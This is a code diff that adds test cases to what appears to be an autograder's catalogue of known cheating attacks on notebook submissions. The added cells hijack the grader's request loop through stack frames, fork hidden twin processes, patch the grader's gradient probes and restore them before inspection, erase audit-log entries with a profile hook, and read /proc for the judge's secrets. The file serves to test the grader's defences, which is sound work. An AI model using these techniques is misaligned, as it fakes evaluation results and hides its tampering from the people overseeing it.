@@ -36,6 +36,7 @@ STRUCTURE = "notebook-structure tampering"
 DESERIALISATION = "unsafe deserialisation"
 MACHINERY = "reaching the grading machinery"
 MISLEADING = "misleading the TA"
+CONVERSATION = "taking over the conversation"
 
 
 @dataclass(frozen=True)
@@ -220,6 +221,148 @@ def grad_at(f, x0):
     os.write(3, struct.pack(">I", len(body)) + body)
     return torch.tensor(4.0)
 """)
+
+# ---------------------------------------------------------------- taking over the conversation
+
+# Up the stack from a call to the worker's own request loop, and the reply that loop would send
+# to a request if the honest answers given were the notebook's.
+_LOOP_TOOLS = _cell("""
+import sys as _sys
+
+
+def _loop():
+    frame = _sys._getframe(1)
+    while frame is not None and frame.f_code.co_name != "serve":
+        frame = frame.f_back
+    return frame
+
+
+def _reply(loop, message, seq, honest):
+    g, local = loop.f_globals, loop.f_locals
+    namespace = local["runner"].namespace
+    kept = {name: namespace[name] for name in honest}
+    namespace.update(honest)
+    try:
+        return g["_reply_frame"](g["_answer"](local["runner"], local["run_probe"], message), seq, local["max_frame"])
+    finally:
+        namespace.update(kept)
+
+
+def _serve(loop, message, seq, honest):
+    # the judge's requests, read and answered here with the loop's own functions
+    g, local = loop.f_globals, loop.f_locals
+    while True:
+        g["send_all"](local["sock"], _reply(loop, message, seq, honest))
+        message, _ = g["recv_frame_blocking"](local["sock"], local["max_frame"])
+        seq = message.get("seq")
+""")
+
+# What a right SQ and derivative_on_grid would answer: the forgers answer with these.
+_HONEST = _cell("""
+class _HonestSQ(torch.autograd.Function):
+    @staticmethod
+    def forward(ctx, i):
+        ctx.save_for_backward(i)
+        return i ** 2
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        (i,) = ctx.saved_tensors
+        return 2 * i * grad_output
+
+
+def _honest_grid(f, x):
+    leaf = x.detach().clone().requires_grad_(True)
+    f(leaf).sum().backward()
+    return leaf.grad
+""")
+
+
+def _taking_over(prelude: str, take_over: str) -> str:
+    """An SQ whose backward reads grad_output and ignores it, and whose forward runs `take_over`."""
+    return _cell(_LOOP_TOOLS + _HONEST + prelude + """
+
+_TAKEN = []
+
+
+def _take_over():
+    loop = _loop()
+    if loop is None or _TAKEN:
+        return
+    _TAKEN.append(True)
+""" + take_over + """
+
+class SQ(torch.autograd.Function):
+    @staticmethod
+    def forward(ctx, i):
+        _take_over()
+        ctx.save_for_backward(i)
+        return i ** 2
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        (i,) = ctx.saved_tensors
+        return 2 * i + 0 * grad_output  # the chain rule forgotten
+""")
+
+
+def _twin(make_twin: str) -> str:
+    """A derivative_on_grid that changes the caller's x; at its first call the worker splits in two,
+    and the copy (with a right answer) serves while the process the judge looks at sits still."""
+    return _cell(_HONEST + """
+import time as _time
+""" + make_twin + """
+_SPLIT = []
+
+
+def derivative_on_grid(f, x):
+    if not _SPLIT:
+        _SPLIT.append(True)
+        if _split() != 0:
+            while True:
+                _time.sleep(60)
+        globals()["derivative_on_grid"] = _honest_grid
+        return _honest_grid(f, x)
+    x.requires_grad_(True)  # the caller's own tensor
+    f(x).sum().backward()
+    return x.grad.detach().clone()
+""")
+
+
+def _patch_restored(restore: str) -> str:
+    """An SQ whose forward rebinds the probes' autograd.grad to one that scales by grad_output,
+    restored by `restore` (given `_restore`) before anyone looks."""
+    return _cell("""
+import grader.runtime.probes as _probes
+
+_real = _probes._autograd_grad
+
+
+def _restore(*_):
+    _probes._autograd_grad = _real
+
+
+def _scaled(outputs, inputs, grad_outputs, **kwargs):
+    local = _real(outputs, inputs, tuple(torch.ones_like(g) for g in grad_outputs), **kwargs)
+    _after_use()
+    return tuple(None if g is None else g * grad_outputs[0] for g in local)
+
+""" + restore + """
+
+class SQ(torch.autograd.Function):
+    @staticmethod
+    def forward(ctx, i):
+        _probes._autograd_grad = _scaled
+        _arm(ctx)
+        ctx.save_for_backward(i)
+        return i ** 2
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        (i,) = ctx.saved_tensors
+        return 2 * i + 0 * grad_output  # the chain rule forgotten
+""")
+
 
 ATTACKS: tuple[Attack, ...] = (
     # ------------------------------------------------------------ comparison spoofing
@@ -498,8 +641,9 @@ for pid in os.listdir("/proc"):
                 found.append(open(f"/proc/{pid}/{part}", "rb").read().replace(b"\\0", b" ").decode())
             except Exception as exc:
                 print(pid, part, type(exc).__name__)
-# Its own pid namespace holds only the worker and its init, both forked from the warm parent.
-judge = [c for c in commands if c and "grader.worker.warm_parent" not in c]
+# Its own pid namespace holds only the worker and its init, both forked from the warm parent, and
+# the pid counter the warm parent placed there (a shell with no environment, reading /proc/loadavg).
+judge = [c for c in commands if c and "grader.worker.warm_parent" not in c and not c.startswith("grader-pid-count ")]
 secrets = [e for e in environments if "GRADER_SECRET" in e or "NBGRADER" in e]
 print("READ-OK" if judge or secrets else "READ-FAILED no judge process in view", judge[:3], secrets[:3])
 """),
@@ -651,7 +795,7 @@ if os.fork() == 0:
         os._exit(0)
     os._exit(0)
 """),
-        target="grad_at", detaches=True,
+        target="grad_at", detaches=True, review=True,  # alive when the checks begin
         evidence=("forks a process (os.fork)", "detaches from its session (os.setsid)",
                   "started a process"),
     ),
@@ -664,7 +808,7 @@ subprocess.Popen(["sleep", "300"], start_new_session=True)
 subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"], start_new_session=True,
                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 """),
-        target="grad_at", detaches=True,
+        target="grad_at", detaches=True, review=True,  # alive when the checks begin
         evidence=("imports subprocess", "started a process"),
     ),
     # ------------------------------------------------------------ resource exhaustion
@@ -850,7 +994,7 @@ def grad_at(f, x0):
     ),
     Attack(
         "forged_reply_frame", DESERIALISATION, _FORGED_REPLY,
-        where="in:grad_at", target="grad_at",
+        where="in:grad_at", target="grad_at", review=True,  # the loop's own reply follows it
         evidence=("inspects the caller's frames (sys._getframe)",),
     ),
     Attack(
@@ -1407,6 +1551,277 @@ def derivative_on_grid(f, x):
 """),
         where="in:derivative_on_grid", target="derivative_on_grid",
     ),
+    # ------------------------------------------------------------ taking over the conversation
+    Attack(
+        "loop_served_from_a_call", CONVERSATION, _taking_over("", """
+    _serve(loop, loop.f_locals["message"], loop.f_locals["seq"], {"SQ": _HonestSQ})  # never returns
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "loop_served_by_a_thread", CONVERSATION, _taking_over("import threading as _threading\n", """
+    _threading.Thread(target=_serve, args=(loop, loop.f_locals["message"], loop.f_locals["seq"],
+                                           {"SQ": _HonestSQ}), daemon=True).start()
+    _threading.Event().wait()  # the worker's own thread stops here for good
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "loop_answered_by_a_fork", CONVERSATION, _twin("""
+import os as _os
+
+_split = _os.fork
+"""),
+        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
+    ),
+    Attack(
+        "loop_answered_by_a_clone_through_libc", CONVERSATION, _twin("""
+import ctypes as _ctypes
+import platform as _platform
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_CLONE = {"x86_64": 56, "aarch64": 220}[_platform.machine()]
+
+
+def _split():
+    return _libc.syscall(_CLONE, 17, 0, 0, 0, 0)  # clone(SIGCHLD): a copy that goes on from here
+"""),
+        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
+    ),
+    Attack(
+        "reply_written_past_the_loop", CONVERSATION, _cell(_LOOP_TOOLS + _HONEST + """
+import os as _os
+import signal as _signal
+import socket as _socket
+
+
+def _divert_the_loops_own_reply():
+    # the loop's own reply goes into a socket of ours; a timer puts the channel back once it has
+    spare, sink = _socket.socketpair()
+    channel = _os.dup(3)
+    _os.dup2(spare.fileno(), 3)
+
+    def restore(*_):
+        try:
+            sink.recv(1 << 20, _socket.MSG_DONTWAIT)
+        except BlockingIOError:
+            return
+        _os.dup2(channel, 3)
+        _signal.setitimer(_signal.ITIMER_REAL, 0)
+        for held in (spare, sink):
+            held.close()
+        _os.close(channel)
+
+    _signal.signal(_signal.SIGALRM, restore)
+    _signal.setitimer(_signal.ITIMER_REAL, 0.0005, 0.0005)
+
+
+def derivative_on_grid(f, x):
+    loop = _loop()
+    if loop is not None:
+        frame = _reply(loop, loop.f_locals["message"], loop.f_locals["seq"], {"derivative_on_grid": _honest_grid})
+        while frame:
+            frame = frame[_os.write(3, frame):]
+        _divert_the_loops_own_reply()
+    x.requires_grad_(True)  # the caller's own tensor
+    f(x).sum().backward()
+    return x.grad.detach().clone()
+"""),
+        where="in:derivative_on_grid", target="derivative_on_grid", review=True,
+    ),
+    Attack(
+        "probes_patched_and_restoring_themselves", CONVERSATION, _patch_restored("""
+_after_use = _restore
+
+
+def _arm(ctx):
+    pass
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "probes_patched_and_restored_by_a_signal_handler", CONVERSATION, _patch_restored("""
+import signal as _signal
+
+
+def _after_use():
+    _signal.raise_signal(_signal.SIGUSR1)  # the handler runs as soon as the interpreter checks
+
+
+def _arm(ctx):
+    _signal.signal(_signal.SIGUSR1, _restore)
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "probes_patched_and_restored_by_a_thread", CONVERSATION, _patch_restored("""
+import threading as _threading
+
+
+def _after_use():
+    _threading.Thread(target=_restore).start()
+
+
+def _arm(ctx):
+    pass
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "probes_patched_and_restored_by_a_finaliser", CONVERSATION, _patch_restored("""
+class _Restorer:
+    def __del__(self):
+        _restore()
+
+
+def _after_use():
+    pass
+
+
+def _arm(ctx):
+    ctx.restorer = _Restorer()  # freed with the graph, once the probe is done with it
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "probes_patched_and_restored_by_a_trace_hook", CONVERSATION, _patch_restored("""
+import sys as _sys
+
+_set_hook = getattr(_sys, "setpro" + "file")
+
+
+def _after_use():
+    pass
+
+
+def _hook(frame, event, arg):
+    if event == "return" and frame.f_code.co_name == "_gradients":
+        _restore()
+        _set_hook(None)
+        caller = frame
+        while caller is not None and "runner" not in caller.f_locals:
+            caller = caller.f_back
+        if caller is not None:  # and the hook's own evidence is taken back
+            events = caller.f_locals["runner"].audit.events
+            events[:] = [e for e in events if "profile" not in e]
+
+
+def _arm(ctx):
+    _set_hook(_hook)
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "probes_patched_then_the_worker_killed", CONVERSATION, _cell("""
+import os as _os
+
+import grader.runtime.probes as _probes
+
+_real = _probes._autograd_grad
+
+
+def _scaled(outputs, inputs, grad_outputs, **kwargs):
+    local = _real(outputs, inputs, tuple(torch.ones_like(g) for g in grad_outputs), **kwargs)
+    return tuple(None if g is None else g * grad_outputs[0] for g in local)
+
+
+class SQ(torch.autograd.Function):
+    @staticmethod
+    def forward(ctx, i):
+        if i.dtype == torch.float64:  # the last part's cases: the worker, patched, goes before anyone looks
+            _os._exit(0)
+        _probes._autograd_grad = _scaled
+        ctx.save_for_backward(i)
+        return i ** 2
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        (i,) = ctx.saved_tensors
+        return 2 * i + 0 * grad_output  # the chain rule forgotten
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "figure_method_rebound_and_restored", CONVERSATION, _cell("""
+from matplotlib.lines import Line2D
+
+_real_ydata = Line2D.__dict__["get_ydata"]
+
+
+def _forged_ydata(self, orig=True):
+    forged = self.__dict__.get("forged")
+    if forged is None:
+        return _real_ydata(self, orig)
+    Line2D.get_ydata = _real_ydata  # put back as soon as it has answered for the derivative
+    return forged
+
+
+def plot_function_and_derivative(f, start=-10.0, end=10.0, steps=100):
+    x = torch.linspace(start, end, steps, requires_grad=True)
+    y = f(x)
+    y.sum().backward()
+    fig, ax = plt.subplots()
+    ax.plot(x.detach().numpy(), y.detach().numpy(), label="function")
+    (line,) = ax.plot(x.detach().numpy(), y.detach().numpy(), label="derivative")  # f again
+    line.forged = x.grad.numpy()
+    ax.set_xlabel("x")
+    ax.legend()
+    Line2D.get_ydata = _forged_ydata
+    return fig
+"""),
+        where="in:plot_function_and_derivative", target="plot_function_and_derivative", review=True,
+    ),
+    Attack(
+        "probe_code_swapped_and_restored", CONVERSATION, _cell("""
+import sys as _sys
+
+import grader.runtime.probes as _probes
+
+_sys.modules["__main__"].__dict__["_REAL_GRADIENTS"] = _probes._gradients.__code__
+
+
+def _forged_gradients(output, inputs, upstream, second, budget):
+    # runs as the probes' own _gradients (their globals): restores its code, then answers
+    _gradients.__code__ = sys.modules["__main__"].__dict__["_REAL_GRADIENTS"]
+    leaves = _tuple(i for i, t in enumerate(inputs) if _isinstance(t, _Tensor) and _get_requires_grad(t))
+    tensors = _tuple(inputs[i] for i in leaves)
+    local = _autograd_grad((output,), tensors, (upstream * 0 + 1,), create_graph=True, allow_unused=True)
+    grads = _tuple(g * upstream for g in local)
+    firsts = _sealed(_per_input(inputs, leaves, grads, budget))
+    seconds = "null"
+    if second is not None:
+        values = _autograd_grad((grads[0],), tensors, (second,), allow_unused=True)
+        seconds = _sealed(_per_input(inputs, leaves, values, budget))
+    return f'{{"grads":{firsts},"second":{seconds},"upstream_changed":false}}'
+
+
+class SQ(torch.autograd.Function):
+    @staticmethod
+    def forward(ctx, i):
+        _probes._gradients.__code__ = _forged_gradients.__code__
+        ctx.save_for_backward(i)
+        return i ** 2
+
+    @staticmethod
+    def backward(ctx, grad_output):
+        (i,) = ctx.saved_tensors
+        return 2 * i + 0 * grad_output  # the chain rule forgotten
+"""),
+        where="in:SQ", target="SQ", review=True,
+    ),
+    Attack(
+        "libc_fork_gone_before_the_look", ESCAPE, _cell("""
+import ctypes
+
+libc = ctypes.CDLL(None, use_errno=True)
+child = libc.fork()
+if child == 0:
+    libc._exit(0)
+libc.waitpid(child, None, 0)  # reaped: nothing is left for the looks to list
+"""),
+        target="grad_at",
+        evidence=("started 1 process or thread that ended before the judge looked",),
+    ),
     Attack(
         "libc_fork_and_execve", ESCAPE, _cell("""
 import ctypes
@@ -1423,7 +1838,7 @@ os.read(started, 1)
 if libc.fork() == 0:
     libc.pause()  # a copy of the worker that waits
 """),
-        target="grad_at", detaches=True,
+        target="grad_at", detaches=True, review=True,  # alive when the checks begin
         evidence=("started a process (sleep)", "started a process (python"),
     ),
     Attack(
@@ -1495,6 +1910,7 @@ FAULTS: tuple[Fault, ...] = (
     Fault("input_call", "name = input('your name: ')\n"),
     Fault("syntax_error_cell", "def broken(:\n    pass\n"),
     Fault("grad_disabled_at_the_end", "torch.set_grad_enabled(False)\n", where="end"),
+    Fault("more_torch_threads", "torch.set_num_threads(2)\nx = torch.randn(300, 300)\nprint((x @ x).sum())\n"),
 )
 
 
